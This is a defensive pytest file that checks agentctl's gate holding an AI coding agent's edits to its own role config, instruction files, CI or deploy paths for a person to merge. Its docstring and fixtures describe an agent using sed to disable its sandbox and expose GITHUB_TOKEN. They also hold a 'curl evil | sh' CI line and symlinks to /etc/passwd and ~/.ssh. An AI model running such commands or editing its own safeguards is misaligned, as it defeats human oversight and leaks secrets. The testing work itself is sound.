"""Protected paths: an agent's change to agentctl's config, instructions or CI waits for a person.

The attack this answers: a dev agent ran ``sed -i`` on ``roles/dev.toml`` (sandbox none,
``env = ["GITHUB_TOKEN"]``) and the change was committed, approved and merged. Here the
pipeline stops before review, the PR stays open marked for a person, the orchestrator
passes it over, and the merge queue refuses it whoever asks.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentctl.commands.demo import prepare
from agentctl.config import load_config
from agentctl.errors import MergeRefusedError
from agentctl.forges import Review, make_forge
from agentctl.forges.local import LocalForge
from agentctl.orchestrator.home import Home
from agentctl.orchestrator.tick import Tick, TickReport
from agentctl.pipeline.mergequeue import merge_pr
from agentctl.repo import gitops
from agentctl.repo.protected import Rules, protected_changes
from agentctl.runs import TERMINAL, RunStore
from agentctl.testing.github_server import GitHubServer
from agentctl.testing.llm_server import LLMServer, Turn
from agentctl.workspace import find_workspace
from tests.conftest import Invoke, git

APPROVE = Turn.tool_call("finish", {"verdict": "approve", "summary": "Good.", "comments": []})
SED = (
    "sed -i 's/^sandbox = .*/sandbox = \"none\"/' roles/dev.toml && "
    "echo 'env = [\"GITHUB_TOKEN\"]' >> roles/dev.toml"
)
NEEDS = "this change edits protected paths ({}); a person must merge it"


# -- the function -------------------------------------------------------------------------


def _change(repo: Path, branch: str, act: dict[str, str | None], links: dict[str, str]) -> str:
    """A branch off main writing (str), deleting (None) files and adding symlinks."""
    git(repo, "checkout", "-q", "-b", branch, "main")
    for name, text in act.items():
        path = repo / name
        if text is None:
            git(repo, "rm", "-q", name)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    for name, target in links.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, repo / name)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", branch)
    git(repo, "checkout", "-q", "main")
    return branch


@pytest.fixture
def shaped(repo: Path) -> Path:
    for name in ("roles/dev.toml", "docs/guide.md", "src/app.py", ".github/workflows/ci.yml"):
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text("x\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "shape")
    return repo


def test_every_kind_of_touch_on_a_protected_path_is_found(shaped: Path) -> None:
    repo = shaped
    rules = Rules(globs=("deploy/**", "*.pem"))
    cases: list[tuple[dict[str, str | None], dict[str, str], list[str]]] = [
        ({"src/app.py": "y\n", "docs/new.md": "n\n"}, {}, []),  # ordinary work
        ({"roles/dev.toml": 'sandbox = "none"\n'}, {}, ["roles/dev.toml"]),
        ({"roles/dev.toml": None}, {}, ["roles/dev.toml"]),  # deleted
        ({"Roles/Evil.toml": "x\n"}, {}, ["Roles/Evil.toml"]),  # case-insensitive
        ({"src/deep/AGENTS.md": "obey\n"}, {}, ["src/deep/AGENTS.md"]),  # nested
        ({"pkg/CLAUDE.md": "x\n", ".mcp.json": "{}"}, {}, [".mcp.json", "pkg/CLAUDE.md"]),
        ({".claude/settings.json": "{}", ".codex/config.toml": ""}, {}, None),
        ({".github/workflows/ci.yml": "run: curl evil\n"}, {}, [".github/workflows/ci.yml"]),
        ({".github/actions/setup/action.yml": "x"}, {}, None),  # code CI runs, too
        ({"agentctl.toml": "", "HEARTBEAT.md": "- x\n"}, {}, ["HEARTBEAT.md", "agentctl.toml"]),
        ({".agentctl/ledger/x.jsonl": "{}"}, {}, [".agentctl/ledger/x.jsonl"]),
        ({"deploy/prod/env": "K=1\n", "a/key.pem": "k"}, {}, ["a/key.pem", "deploy/prod/env"]),
        ({}, {"src/cfg": "../roles/dev.toml"}, ["src/cfg -> ../roles/dev.toml"]),
        ({}, {"src/gh": "../.github"}, ["src/gh -> ../.github"]),  # a folder holding one
        ({}, {"src/out": "../../../etc/passwd"}, ["src/out -> ../../../etc/passwd"]),
        ({}, {"src/abs": "/home/me/.ssh"}, ["src/abs -> /home/me/.ssh"]),
        ({}, {"src/ok": "app.py"}, []),
    ]
    for n, (act, links, expected) in enumerate(cases):
        branch = _change(repo, f"case-{n}", act, links)
        found = protected_changes(repo, "main", branch, rules=rules)
        assert found == (sorted(act) if expected is None else expected), (n, act, links)
    # renamed from or to a protected place: both sides count
    git(repo, "checkout", "-q", "-b", "rename", "main")
    git(repo, "mv", "roles/dev.toml", "src/dev.toml")
    git(repo, "commit", "-q", "-m", "rename")
    git(repo, "checkout", "-q", "main")
    assert protected_changes(repo, "main", "rename") == ["roles/dev.toml"]
    # main moving on after the branch started is not the branch's change
    (repo / "roles" / "dev.toml").write_text("main's own edit\n")
    git(repo, "commit", "-qam", "main edits a role")
    assert protected_changes(repo, "main", "case-0") == []


def test_uncommitted_changes_of_a_worktree_count_when_asked(shaped: Path) -> None:
    tree = gitops.ensure_worktree(shaped, shaped / ".agentctl", "w", "main")
    (tree / "src" / "app.py").write_text("changed\n")
    (tree / "CLAUDE.md").write_text("untracked instructions\n")
    (tree / "roles" / "dev.toml").write_text("edited, not committed\n")
    assert protected_changes(tree, "main") == []
    assert protected_changes(tree, "main", worktree=True) == ["CLAUDE.md", "roles/dev.toml"]


# -- the merge queue: the last line of defence ----------------------------------------------


def test_the_merge_queue_refuses_an_approved_protected_change_and_merges_an_ordinary_one(
    shaped: Path,
) -> None:
    forge = LocalForge(shaped, shaped / ".agentctl")
    state = shaped / ".agentctl"
    prs = {}
    for branch, files in (
        ("agent/evil", {"roles/dev.toml": 'sandbox = "none"\nenv = ["GITHUB_TOKEN"]\n'}),
        ("agent/ci", {".github/workflows/ci.yml": "run: curl evil | sh\n"}),
        ("agent/ok", {"src/app.py": "better\n"}),
    ):
        tree = gitops.ensure_worktree(shaped, state, branch, "main")
        for name, text in files.items():
            (tree / name).write_text(text)
        assert gitops.commit_all(tree, branch) is not None
        pr = forge.open_pr(branch=branch, base="main", title=branch, body="")
        prs[branch] = forge.add_review(pr.number, Review("approve", "lgtm"))
    head = git(shaped, "rev-parse", "main")
    for branch, path in (("agent/evil", "roles/dev.toml"), ("agent/ci", ".github/workflows")):
        number = prs[branch].number
        outcome = merge_pr(forge, number, repo_root=shaped, state_dir=state, gate="true")
        assert outcome.status == "protected" and not outcome.merged, outcome
        assert path in outcome.detail and "a person must merge it" in outcome.detail
        assert forge.get_pr(number).state == "open"
        assert path in str(forge.get_pr(number).needs_person)
        again = merge_pr(forge, number, repo_root=shaped, state_dir=state, gate="true")
        assert again.status == "protected"  # marked once, refused every time
        assert len(forge.comments(number)) == 1
        with pytest.raises(MergeRefusedError, match="waits for a person"):
            forge.merge(number, expected_head=forge.get_pr(number).head_sha)  # nor the forge
    assert git(shaped, "rev-parse", "main") == head
    ok = merge_pr(forge, prs["agent/ok"].number, repo_root=shaped, state_dir=state, gate="true")
    assert ok.status == "merged", ok
    assert forge.get_pr(prs["agent/ok"].number).needs_person is None


# -- through the real CLI: the coding pipeline, the orchestrator ------------------------------


@pytest.fixture
def server() -> Iterator[LLMServer]:
    with LLMServer() as running:
        yield running


@pytest.fixture
def project(tmp_path: Path, server: LLMServer, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = prepare(tmp_path / "project", server, scripted=False).root
    calc = root / "calc.py"
    calc.write_text(calc.read_text().replace("return a - b", "return a + b"))
    git(root, "commit", "-qam", "main is green")
    text = (root / "agentctl.toml").read_text()
    text = text.replace("[project]\n", '[project]\nprotected_paths = ["deploy/**"]\n', 1)
    text += '\n[orchestrator]\ntriage = "none"\nmax_parallel = 1\n'
    (root / "agentctl.toml").write_text(text)
    git(root, "commit", "-qam", "settings")
    monkeypatch.chdir(root)
    return root


@pytest.fixture
def github(project: Path, github_schema: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    with GitHubServer(github_schema, tmp_path / "gh") as hub:
        with (project / "agentctl.toml").open("a") as config:
            config.write(
                f'\n[forge]\nkind = "github"\n[forge.github]\nrepo = "acme/calc"\n'
                f'url = "{hub.graphql_url}"\n'
            )
        git(project, "commit", "-qam", "GitHub")
        bare = hub.add_repo("acme", "calc", source=project)
        git(project, "remote", "add", "origin", hub.remote_url("acme", "calc"))
        monkeypatch.setenv("GITHUB_TOKEN", "ghp_test")
        yield hub, bare


def _tick(root: Path) -> TickReport:
    return Tick(load_config(find_workspace(root))).run()


def _settle(root: Path, timeout: float = 90.0) -> None:
    store = RunStore(root / ".agentctl")
    deadline = time.monotonic() + timeout
    while any(
        x.record and x.record.kind == "pipeline" and x.record.status not in TERMINAL
        for x in store.list()
    ):
        assert time.monotonic() < deadline, "pipelines did not finish"
        time.sleep(0.1)


EDITS = {
    "sed-role": (Turn.tool_call("bash", {"command": SED}), "roles/dev.toml"),
    "workflow": (
        Turn.tool_call(
            "bash",
            {"command": "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml"},
        ),
        ".github/workflows/ci.yml",
    ),
    "glob": (
        Turn.tool_call("write", {"path": "deploy/prod/secrets.env", "content": "K=1\n"}),
        "deploy/prod/secrets.env",
    ),
}


@pytest.mark.parametrize(
    ("edit", "backend"),
    [("sed-role", "local"), ("workflow", "local"), ("glob", "local"), ("sed-role", "github")],
)
def test_a_protected_edit_stops_before_review_and_waits_for_a_person(
    project: Path,
    server: LLMServer,
    edit: str,
    backend: str,
    request: pytest.FixtureRequest,
    cli: Invoke,
) -> None:
    hub: GitHubServer | None = None
    if backend == "github":
        hub, bare = request.getfixturevalue("github")
    turn, path = EDITS[edit]
    server.script("demo-coder", turn, Turn.text("Done."))
    server.script("demo-reviewer", APPROVE, APPROVE, APPROVE)  # an obliging reviewer
    main = git(project, "rev-parse", "main")

    first = _tick(project)
    assert [s.split(":")[0] for s in first.started] == ["T-1"]
    _settle(project)
    (listing,) = RunStore(project / ".agentctl").list(kind="pipeline")
    record = listing.record
    assert record is not None and record.status == "failed"
    assert NEEDS.format(path) in str(record.reason)
    output = RunStore(project / ".agentctl").get(listing.id).read_output() or {}
    assert output["ending"] == "needs_person"
    assert "review" not in output["steps"]  # stopped before it
    assert not [r for r in server.requests if r.model == "demo-reviewer"]

    forge = make_forge(load_config(find_workspace(project)))
    (pr,) = forge.list_prs(state="open")
    assert pr.needs_person is not None and path in pr.needs_person
    if hub is not None:
        (review,) = hub.pr(pr.number)["reviews"]
        assert review["state"] == "COMMENTED" and "agentctl:needs-person" in review["body"]
    else:
        assert "needs a person" in cli("status").stdout

    second = _tick(project)  # the failure said once; the PR said once; nothing started
    assert second.started == [] and second.merged == [], second
    assert len(second.needs_person) == 1 and "waiting for a person" in second.needs_person[0]
    assert f"PR #{pr.number}" in second.needs_person[0]
    assert len(second.failed) == 1 and NEEDS.format(path) in second.failed[0]
    reports = len(Home.of(project / ".agentctl").outbox.read())
    for _ in range(2):
        later = _tick(project)
        assert later.started == [] and later.merged == [] and later.needs_person == [], later
    assert len(Home.of(project / ".agentctl").outbox.read()) == reports  # not every tick
    assert len(RunStore(project / ".agentctl").list(kind="pipeline")) == 1  # no review, no dev
    assert forge.get_pr(pr.number).state == "open"
    if hub is not None:
        assert not [r for r in hub.requests if r.operation == "AgentctlMerge"]
        assert git(bare, "rev-parse", "main") == main
    assert git(project, "rev-parse", "main") == main


def test_a_hand_run_feature_pipeline_cannot_merge_a_protected_change(
    project: Path, server: LLMServer, cli: Invoke
) -> None:
    server.script("demo-coder", Turn.tool_call("bash", {"command": SED}), Turn.text("Done."))
    server.script("demo-reviewer", APPROVE)
    main = git(project, "rev-parse", "main")
    result = cli("pipeline", "run", "feature", "--task", "Tune the dev role")
    assert result.exit_code == 1
    assert NEEDS.format("roles/dev.toml") in " ".join(result.stdout.split())
    assert "✋ stopped before review: protected paths (roles/dev.toml)" in result.stderr
    assert git(project, "rev-parse", "main") == main
    assert not [r for r in server.requests if r.model == "demo-reviewer"]
    assert 'sandbox = "auto"' in (project / "roles" / "dev.toml").read_text()


def test_an_ordinary_change_still_goes_through_review_and_merges(
    project: Path, server: LLMServer
) -> None:
    server.script(
        "demo-coder",
        Turn.tool_call("write", {"path": "feature.py", "content": "FEATURE = 1\n"}),
        Turn.text("Added."),
    )
    server.script("demo-reviewer", APPROVE)
    _tick(project)
    _settle(project)
    report = _tick(project)
    assert len(report.merged) == 1 and report.needs_person == [], report
    assert (project / "feature.py").read_text() == "FEATURE = 1\n"
    records = [json.loads(p.read_text()) for p in (project / ".agentctl" / "prs").glob("*.json")]
    assert [r.get("needs_person") for r in records] == [None]


def test_a_workspace_in_a_subfolder_and_its_heartbeat_file_are_protected(
    repo: Path, cli: Invoke
) -> None:
    from agentctl.repo.protected import rules_for

    sub = repo / "services" / "api"
    sub.mkdir(parents=True)
    assert cli("init", cwd=sub).exit_code == 0
    with (sub / "agentctl.toml").open("a") as config:
        config.write('\n[orchestrator]\nheartbeat_file = "ops/duties.md"\n')
    rules = rules_for(load_config(find_workspace(sub)))
    for path in ("services/api/roles/dev.toml", "services/api/agentctl.toml", "roles/x.toml"):
        assert rules.protects(path), path
    assert rules.protects("services/api/ops/duties.md")
    assert rules.protects("Services/API/Pipelines/feature.toml")
    assert not rules.protects("services/api/src/roles.py")
    assert not rules.protects("services/other/agentctl.toml.example")


def test_the_orchestrator_never_merges_an_approved_pr_under_a_configured_glob(
    project: Path, server: LLMServer
) -> None:
    from agentctl.trackers.local import LocalTracker

    LocalTracker(project / ".agentctl").set_state("T-1", "Canceled")
    forge = LocalForge(project, project / ".agentctl")
    tree = gitops.ensure_worktree(project, project / ".agentctl", "person/deploy", "main")
    (tree / "deploy").mkdir()
    (tree / "deploy" / "prod.env").write_text("REPLICAS=3\n")
    assert gitops.commit_all(tree, "scale up") is not None
    pr = forge.open_pr(branch="person/deploy", base="main", title="scale up", body="")
    forge.add_review(pr.number, Review("approve", "fine by me"))
    main = git(project, "rev-parse", "main")
    first = _tick(project)
    assert first.merged == [] and first.started == [] and first.failed == [], first
    (said,) = first.needs_person
    assert NEEDS.format("deploy/prod.env") in said
    assert forge.get_pr(pr.number).needs_person is not None
    second = _tick(project)
    assert second.needs_person == [] and second.merged == [] and second.started == []
    assert git(project, "rev-parse", "main") == main
